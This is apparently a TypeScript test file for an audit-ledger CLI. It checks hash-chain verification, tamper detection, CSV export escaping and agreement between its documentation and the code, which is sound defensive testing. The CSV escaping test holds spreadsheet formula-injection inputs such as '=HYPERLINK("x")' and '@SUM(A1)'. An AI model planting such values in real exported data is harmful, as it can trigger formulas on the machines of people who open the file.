      assert.match(run.stderr, /\d+ migrations not applied yet .*20261122120000_ledger_append_only.*npx prisma migrate deploy/);
      assert.deepEqual(await empty.migrationsPending(), (await readMigrationsDirectory(DEFAULT_MIGRATIONS_DIR)).map((migration) => migration.name));
    } finally {
      await empty.close();
    }
  });

  test("no PGlite directory where DATABASE_URL points: exit 2 with where it looked", async () => {
    const run = await cli({ env: { DATABASE_URL: "postgresql://pglite.invalid/pglite?data_dir=%2Fnonexistent%2Fpglite" } }, "verify");
    assert.equal(run.code, 2);
    assert.match(run.stderr, /There is no database at \/nonexistent\/pglite/);
  });

  test("escapeCsvCell: RFC 4180 and formula injection", () => {
    assert.equal(escapeCsvCell("plain"), "plain");
    assert.equal(escapeCsvCell('a "b", c'), '"a ""b"", c"');
    assert.equal(escapeCsvCell("line\nbreak"), '"line\nbreak"');
    assert.equal(escapeCsvCell("=1+1"), "'=1+1");
    assert.equal(escapeCsvCell("@SUM(A1)"), "'@SUM(A1)");
    assert.equal(escapeCsvCell("-2"), "'-2");
    assert.equal(escapeCsvCell("+2"), "'+2");
    assert.equal(escapeCsvCell("\t=1"), "'\t=1");
    assert.equal(escapeCsvCell('=HYPERLINK("x")'), `"'=HYPERLINK(""x"")"`);
    assert.equal(escapeCsvCell(null), "");
    assert.equal(escapeCsvCell(42n), "42");
  });

  test("the streaming verifier reports each failure at the right seq", async () => {
    let prev = GENESIS_HASH;
    const chain = [1, 2, 3, 4].map((n) => {
      const body = canonicalJson({ seq: String(n), v: 1 });
      const hash = computeEntryHash(prev, body);
      const entry = { seq: BigInt(n), body, prevHash: prev, hash };
      prev = hash;
      return entry;
    });
    const ok = await verifyLedger([chain]);
    assert.ok(ok.ok && ok.entries === 4 && ok.headSeq === 4n && ok.headHash === prev && ok.checkpointsChecked === 0);
    const empty = await verifyLedger([]);
    assert.ok(empty.ok && empty.entries === 0 && empty.headHash === GENESIS_HASH);

    const fail = async (entries: typeof chain, options = {}) => {
      const result = await verifyLedger(entries, options);
      assert.ok(!result.ok, "expected a failure");
      return `${result.firstBadSeq}:${result.reason}`;
    };
    assert.equal(await fail([chain[0]!, chain[2]!]), "2:gap");
    assert.equal(await fail([chain[1]!]), "1:gap");
    assert.equal(await fail([chain[0]!, chain[1]!, chain[1]!]), "3:seq-mismatch");
    assert.equal(await fail([chain[0]!, { ...chain[1]!, body: chain[1]!.body.replace("v", "w") }]), "2:hash-mismatch");
    const moved = canonicalJson({ seq: "9", v: 1 });
    assert.equal(await fail([chain[0]!, { ...chain[1]!, body: moved, hash: computeEntryHash(chain[0]!.hash, moved) }]), "2:seq-mismatch");
    const relinked = { ...chain[1]!, prevHash: "f".repeat(64), hash: computeEntryHash("f".repeat(64), chain[1]!.body) };
    assert.equal(await fail([chain[0]!, relinked]), "2:broken-link");
    assert.equal(await fail([{ ...chain[0]!, hash: "XYZ" }]), "1:malformed");
    const notJson = "not json";
    assert.equal(await fail([{ ...chain[0]!, body: notJson, hash: computeEntryHash(GENESIS_HASH, notJson) }]), "1:malformed");
    assert.equal(await fail([{ ...chain[0]!, type: "vote.approved" } as VerifiableEntry]), "1:malformed");
    assert.equal(await fail(chain, { checkpoints: [{ seq: 3n, hash: chain[1]!.hash, source: "test" }] }), "3:checkpoint-mismatch");
    assert.equal(await fail(chain, { checkpoints: [{ seq: 7n, hash: prev, source: "test" }] }), "5:checkpoint-mismatch");
    const reported = await verifyLedger(chain, { checkpoints: [{ seq: 7n, hash: prev, source: "test" }], checkpointsBeyondHead: "report" });
    assert.ok(reported.ok && reported.checkpointsBeyondHead.length === 1);
  });
});

// ---------------------------------------------------------------------------------------------
// docs/ledger-format.md: its worked example and reference verifier must agree with the code.

describe("docs/ledger-format.md", () => {
  const block = (doc: string, info: string) => {
    const match = new RegExp("```" + info.replace(/[.*+?^${}()|[\]\\]/g, "\\$&") + "\\n([\\s\\S]*?)\\n```").exec(doc);
    assert.ok(match, `the doc has a \`\`\`${info} block`);
    return match[1]!;
  };

  test("the worked example's hashes are what the code computes", async () => {
    const doc = await fs.readFile(DOC, "utf8");
    const body1 = block(doc, "text entry-1-body");
    const body2 = block(doc, "text entry-2-body");
    const hash1 = block(doc, "text entry-1-hash");
    const hash2 = block(doc, "text entry-2-hash");
    assert.equal(computeEntryHash(GENESIS_HASH, body1), hash1);
    assert.equal(computeEntryHash(hash1, body2), hash2);
    assert.equal(Buffer.byteLength(body1), 631);
    assert.equal(Buffer.byteLength(body2), 850);
    for (const body of [body1, body2]) assert.equal(canonicalJson(JSON.parse(body)), body, "the example bodies are canonical");
    const seenData = (JSON.parse(body2) as { data: { seen: { blocks: unknown[]; sha256: string } } }).data.seen;
    assert.equal(sha256OfCanonical(seenData.blocks), seenData.sha256);

    const jsonl = block(doc, "jsonl worked-example");
    const lines = jsonl.split("\n").map((line) => JSON.parse(line) as Record<string, string>);
    assert.deepEqual(lines.map((line) => [line.body, line.hash]), [[body1, hash1], [body2, hash2]]);
  });

  test("the example JSONL verifies with the CLI and with the doc's Python reference verifier", async (t) => {
    const doc = await fs.readFile(DOC, "utf8");
    const dir = await tempDir();
    t.after(() => fs.rm(dir, { recursive: true, force: true }));
    const file = path.join(dir, "example.jsonl");
    const jsonl = block(doc, "jsonl worked-example");
    await fs.writeFile(file, jsonl + "\n");
    const hash2 = block(doc, "text entry-2-hash");

    const complete = await cli({}, "verify", "--file", file, "--checkpoint", `2:${hash2}`);
    assert.equal(complete.code, 0, complete.stdout);
    assert.match(complete.stdout, /complete from genesis/);
    const wrong = await cli({}, "verify", "--file", file, "--checkpoint", `2:${"0".repeat(63)}1`);
    assert.equal(wrong.code, 1);
    assert.match(wrong.stdout, /^VERIFICATION FAILED at seq 2: checkpoint-mismatch/);
    const second = path.join(dir, "second.jsonl");
    await fs.writeFile(second, jsonl.split("\n")[1] + "\n");
    assert.equal((await cli({}, "verify", "--file", second)).code, 3);
    assert.equal((await cli({}, "verify", "--file", second, "--checkpoint", `1:${block(doc, "text entry-1-hash")}`)).code, 0);

    const python = await execFileAsync("python3", ["--version"]).then(() => true, () => false);
    if (!python) {
      t.diagnostic("python3 not found: reference verifier not run");
      return;
    }
    const script = path.join(dir, "verify_ledger.py");
    await fs.writeFile(script, block(doc, "python reference-verifier") + "\n");
    const intact = await execFileAsync("python3", [script, file, `2:${hash2}`]);
    assert.match(intact.stdout, /^intact: seq 1\.\.2, head hash cfae5c46/);
    const tampered = path.join(dir, "tampered.jsonl");
    await fs.writeFile(tampered, jsonl.replace("sre-leads", "security") + "\n");
    await assert.rejects(execFileAsync("python3", [script, tampered]), (error: { code?: number; stdout?: string }) => error.code === 1 && /FAILED at seq 1: hash-mismatch/.test(error.stdout ?? ""));
    await assert.rejects(execFileAsync("python3", [script, second]), (error: { code?: number; stdout?: string }) => error.code === 3 && /partial, not anchored/.test(error.stdout ?? ""));
  });
});

// ---------------------------------------------------------------------------------------------
// The real command, as a process: exit codes as a shell sees them.

describe("bin/accessbot.mjs audit (PostgreSQL, as a process)", { skip: POSTGRES_URL ? false : "set TEST_DATABASE_URL to run against PostgreSQL" }, () => {
  test("exit 0 on an intact ledger, 1 after tampering, 2 on bad arguments", async () => {
    const db = await openTestPostgres(POSTGRES_URL!);
    const url = (await cliOptionsFor(testDatabases.find((target) => target.name === "postgres")!, db)).env!.DATABASE_URL!;
    try {
      await seedLedger(db);
      const run = (...args: string[]) =>
        execFileAsync(process.execPath, [path.join(ROOT, "bin/accessbot.mjs"), "audit", ...args], { cwd: ROOT, env: { ...process.env, DATABASE_URL: url } }).then(
          ({ stdout }) => ({ code: 0, stdout }),
          (error: { code: number; stdout: string; stderr: string }) => ({ code: error.code, stdout: error.stdout + error.stderr }),
        );
      const intact = await run("verify");
      assert.equal(intact.code, 0, intact.stdout);
      assert.match(intact.stdout, /Ledger intact: 8 entries/);
      await withTriggersOff(db, "UPDATE ledger_entry SET body = replace(body, 'prod-db', 'dev-db') WHERE seq = 7");
      const broken = await run("verify");
      assert.equal(broken.code, 1);
      assert.match(broken.stdout, /VERIFICATION FAILED at seq 7: hash-mismatch/);
      assert.equal((await run("export", "--format", "yaml")).code, 2);
    } finally {
      await db.close();
    }
  });
});
